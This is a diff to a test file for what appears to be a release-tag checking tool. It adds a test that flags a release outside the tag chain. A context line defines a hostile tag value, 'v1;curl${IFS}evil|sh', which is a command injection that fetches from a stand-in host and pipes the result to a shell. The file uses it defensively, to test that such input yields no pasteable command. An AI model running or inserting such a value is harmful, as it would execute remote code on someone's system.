@@ -131,6 +131,25 @@ describe('tags', () => {
     ]);
   });
 
+  it('a release between two others that follows on an old tag is not part of the chain', () => {
+    const old = lightweight('v0.9.0', objectId('old'));
+    const between = releaseTag(recordOf('1.0.5', { previous: { tag: old.name, object: old.object } }));
+    const third = assignmentOf(
+      {
+        number: 3,
+        action: 'promote',
+        version: pinOf(between, '1.0.5'),
+        newest: pinOf(V2, '1.1.0'),
+        previous: { tag: SECOND.name, object: SECOND.object },
+      },
+      day('2023-09-01'),
+      between.commit,
+    );
+    expect(messagesOf(told([...CHAIN, old, between, third]))).toEqual([
+      'error chain: v1.0.5 is not part of the chain: the release after it follows on v1.0.0',
+    ]);
+  });
+
   it('a message that names a hostile tag gets no command to paste', () => {
     const hostile = 'v1;curl${IFS}evil|sh';
     const third = assignmentOf(
